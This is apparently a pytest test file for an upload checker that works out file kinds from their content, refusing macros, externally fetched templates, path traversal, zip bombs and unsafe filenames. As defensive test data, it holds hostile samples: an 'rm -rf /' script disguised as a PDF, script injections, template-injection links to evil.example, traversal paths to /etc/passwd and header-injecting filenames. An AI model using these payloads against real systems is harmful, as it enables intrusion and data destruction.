"""Files by their content: what may be kept, under which name, and why not."""

import pytest

from projects.lib.files import ENDINGS, SORTS, clean_name, read_upload, size_in_words, what_it_is
from projects.lib.problems import Unfit
from tests.factories.files import (
    MAIN,
    OPEN,
    PDF,
    SOUNDS,
    make_mp4,
    make_office,
    make_old,
    make_open,
    make_picture,
    make_zip,
)

MOST = 100_000
LIES = "The name ends in .%s, but inside it is something else. Save it once more, then add it."
NOT_TAKEN = "We cannot keep this sort of file. Add a PDF, a document, a picture or a sound file."


def why_not(name: str, content: bytes) -> str:
    """What is said of a file that cannot be kept."""
    with pytest.raises(Unfit) as unfit:
        read_upload(name, content, most=MOST)
    return str(unfit.value)


# --- what may be kept ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ending", "content", "kind"),
    [
        ("pdf", PDF, "application/pdf"),
        *((ending, make_office(ending), kind) for ending, kind in MAIN.items()),
        *((ending, make_open(ending), kind) for ending, kind in OPEN.items()),
        ("doc", make_old("doc"), "application/msword"),
        ("xls", make_old("xls"), "application/vnd.ms-excel"),
        ("ppt", make_old("ppt"), "application/vnd.ms-powerpoint"),
        ("mp3", SOUNDS["mp3"], "audio/mpeg"),
        ("m4a", SOUNDS["m4a"], "audio/mp4"),
        ("ogg", SOUNDS["ogg"], "audio/ogg"),
        ("wav", SOUNDS["wav"], "audio/wav"),
        ("webm", SOUNDS["webm"], "audio/webm"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 6 else "",
)
def test_read_upload_tells_each_kind_from_its_content(ending: str, content: bytes, kind: str) -> None:
    file = read_upload(f"Our plan.{ending}", content, most=MOST)
    assert (file.name, file.kind, file.content) == (f"Our plan.{ending}", kind, content)


@pytest.mark.parametrize(
    ("form", "ending"), [("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("WEBP", "webp")]
)
def test_read_upload_takes_pictures(form: str, ending: str) -> None:
    file = read_upload("photo", make_picture(form), most=MOST)
    assert (file.name, file.kind) == (f"photo.{ending}", {"jpg": "image/jpeg"}.get(ending, f"image/{ending}"))


def test_every_kind_has_an_ending_of_its_own() -> None:
    endings = [sort.ending for sort in SORTS.values()]
    assert (len(set(endings)), set(endings) <= set(ENDINGS)) == (len(SORTS), True)


@pytest.mark.parametrize(
    ("name", "content", "kept"),
    [
        ("photo.jpg", make_picture("PNG"), "photo.png"),  # phones do this
        ("talk.mp3", SOUNDS["m4a"], "talk.m4a"),
        ("talk.opus", SOUNDS["ogg"], "talk.ogg"),
        ("photo.JPEG", make_picture("JPEG"), "photo.jpg"),
        ("plan", PDF, "plan.pdf"),
        ("plan.xyz", PDF, "plan.pdf"),
        ("plan.pdf.exe", PDF, "plan.pdf"),
    ],
)
def test_read_upload_gives_the_ending_of_the_content(name: str, content: bytes, kept: str) -> None:
    assert read_upload(name, content, most=MOST).name == kept


# --- files that lie, and files that nobody may add --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leaflet.pdf", b"MZ\x90\x00" + b"\x00" * 200),  # a program of Windows
        ("leaflet.pdf", b"\x7fELF\x02\x01\x01"),
        ("leaflet.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("leaflet.pdf", make_office()),
        ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("photo.jpg", b"<!doctype html><script>alert(1)</script>"),
        ("photo.png", PDF),
        ("plan.docx", PDF),
        ("plan.docx", make_zip({"hello.txt": b"hi"})),
        ("plan.docx", make_open("odt")),
        ("plan.xls", make_old("doc")),
        ("talk.mp3", make_picture("PNG")),
        ("talk.m4a", make_mp4(b"soun", b"vide", brand=b"isom")),  # a film
    ],
)
def test_read_upload_says_kindly_when_name_and_content_differ(name: str, content: bytes) -> None:
    ending = name.split(".")[1]
    assert why_not(name, content) == LIES % ending


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("page.html", b"<!doctype html><p>hello"),
        ("drawing.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("setup.exe", b"MZ\x90\x00" + b"\x00" * 200),
        ("words.txt", b"hello"),
        ("all.zip", make_zip({"hello.txt": b"hi"})),
        ("app.jar", make_zip({"META-INF/MANIFEST.MF": b"Main-Class: X"})),
        ("film.mp4v", make_mp4(b"vide", brand=b"isom")),
        ("film.ogv", b"OggS\x00\x02" + b"\x00" * 22 + b"\x80theora" + b"\x01vorbis"),
        ("film.mkv", b"\x1a\x45\xdf\xa3webm V_VP9 A_OPUS"),
        ("installer.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 3000),
        ("half.mp", b"\xff\xfb\xff\xff"),
        ("nearly.mp", b"\xff"),
        (".", b" %PDF-1.4"),
    ],
)
def test_read_upload_refuses_other_files(name: str, content: bytes) -> None:
    assert why_not(name, content) == NOT_TAKEN


def test_read_upload_refuses_nothing_and_too_much() -> None:
    assert why_not("leaflet.pdf", b"") == "This file is empty. Nothing is in it."
    assert (
        why_not("leaflet.pdf", PDF + b"x" * MOST) == "This file is too large. The most we can keep is 98 KB."
    )


# --- documents -------------------------------------------------------------------------------------------------------


MACROS = "This file has small programs inside (macros). Save it without them, then add it."


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("plan.docx", make_office(**{"word/vbaProject.bin": b"x"})),
        ("plan.docx", make_office(**{"customXml/VBAPROJECT.BIN": b"x"})),
        ("plan.docm", make_office(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("plan.xlsx", make_office("xlsx", **{"xl/macrosheets/sheet1.xml": b"x"})),
        ("plan.docx", make_office(**{"word/activeX/activeX1.bin": b"x"})),
        ("plan.odt", make_open(**{"Basic/Standard/Module1.xml": b"x"})),
        ("plan.odt", make_open(**{"Scripts/python/x.py": b"x"})),
        ("plan.doc", make_old("doc") + "_VBA_PROJECT".encode("utf-16-le")),
    ],
)
def test_read_upload_refuses_documents_with_programs(name: str, content: bytes) -> None:
    assert why_not(name, content) == MACROS


def ties(kind: str, target: str, coding: str = "utf-8") -> dict[str, bytes]:
    """The list of what a document's settings belong with: one tie to something outside."""
    said = f'<Relationship Id="r1" Type="http://schemas.example/2006/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/settings.xml.rels": f"<Relationships>{said}</Relationships>".encode(coding)}


@pytest.mark.parametrize(
    "member",
    [
        ties("attachedTemplate", "https://evil.example/x.dotm"),
        ties("attachedTemplate", "\\\\evil.example\\x.dotm"),
        ties("attachedTemplate", "file://evil.example/x.dotm"),
        ties("attachedTemplate", "&#104;ttp://evil.example/x.dotm", "utf-16"),
        ties("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
        ties("frame", "HTTP://evil.example/"),
    ],
)
def test_read_upload_refuses_documents_that_fetch_programs(member: dict[str, bytes]) -> None:
    with pytest.raises(Unfit, match="fetches things from elsewhere"):
        read_upload("a.docx", make_office(**member), most=MOST)


@pytest.mark.parametrize(
    "member",
    [
        ties("hyperlink", "https://example.org/"),
        ties("attachedTemplate", "file:///C:\\Users\\Sam\\Normal.dotm"),
        {"word/_rels/document.xml.rels": b"\xff\xfe<Relationship broken"},
        {"word/_rels/document.xml.rels": b"<Relationship " * 70_000},  # hours, if each were read to the end
    ],
)
def test_read_upload_takes_documents_with_links_and_templates_of_their_own(member: dict[str, bytes]) -> None:
    assert read_upload("a.docx", make_office(**member), most=MOST).name == "a.docx"


@pytest.mark.parametrize(
    "member", ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "..\\..\\x", "C:\\x", "\\x"]
)
def test_read_upload_refuses_documents_that_lead_out_of_themselves(member: str) -> None:
    said = why_not("plan.docx", make_office(**{member: b"x"}))
    assert (
        said
        == "We cannot trust what is inside this file. Save it once more in your own program, then add it."
    )


def test_read_upload_refuses_documents_that_are_bombs() -> None:
    too_much = "This file holds far more than it looks. We cannot keep it. Try a PDF."
    large = make_office(**{f"word/media/{number}.bin": b"\x00" * 30_000_000 for number in range(7)})
    many = make_office(**{f"word/{number}": b"" for number in range(2_000)})
    with pytest.raises(Unfit, match=too_much):
        read_upload("plan.docx", large, most=10_000_000)
    with pytest.raises(Unfit, match=too_much):
        read_upload("plan.docx", many, most=10_000_000)


def test_read_upload_refuses_documents_that_say_less_than_they_hold() -> None:
    """The list says that a member has 5 bytes; only so many are read of it, and then its sum is wrong."""
    bomb = bytearray(make_zip({"mimetype": b"a" * 50_000, "content.xml": b"x"}))
    listed = bomb.index(b"PK\x01\x02")
    bomb[listed + 24 : listed + 28] = (5).to_bytes(4, "little")
    assert why_not("plan.odt", bytes(bomb)) == "This file is broken. Save it once more, then add it."


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04", make_office()[:-30], b"PK\x05\x06" + b"\x00" * 17, make_office()[:200]]
)
def test_read_upload_refuses_broken_documents(content: bytes) -> None:
    assert why_not("plan.docx", content) == "This file is broken. Save it once more, then add it."


def test_read_upload_refuses_locked_documents() -> None:
    locked = bytearray(make_office())
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert why_not("plan.docx", bytes(locked)) == (
        "This file is locked with a password. Save it without one, then add it."
    )


# --- names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\windows\\win.ini", "win.pdf"),
        ("C:\\Users\\Sam\\our plan.pdf", "our plan.pdf"),
        ("plan\r\nSet-Cookie: a=b.pdf", "plan Set-Cookie a=b.pdf"),
        ("plan\x00.pdf", "plan.pdf"),
        ("\u202egnp.plan.pdf", "gnp.plan.pdf"),
        ('a"b<c>d|e?f*g%h;i.pdf', "a b c d e f g h i.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("...", "file.pdf"),
        ("", "file.pdf"),
        ("CON.pdf", "file.pdf"),
        ("Größe \u0645\u0631\u062d\u0628\u0627.pdf", "Größe \u0645\u0631\u062d\u0628\u0627.pdf"),
        ("v1.2", "v1.2.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_clean_name(name: str, cleaned: str) -> None:
    assert clean_name(name, "pdf") == cleaned


def test_sizes_and_kinds_are_said_in_words() -> None:
    assert [size_in_words(size) for size in (3, 340 * 1024, 10 * 1024 * 1024)] == ["1 KB", "340 KB", "10 MB"]
    assert [what_it_is(kind) for kind in ("image/png", MAIN["docx"], "text/html")] == [
        "picture",
        "text document",
        "file",
    ]
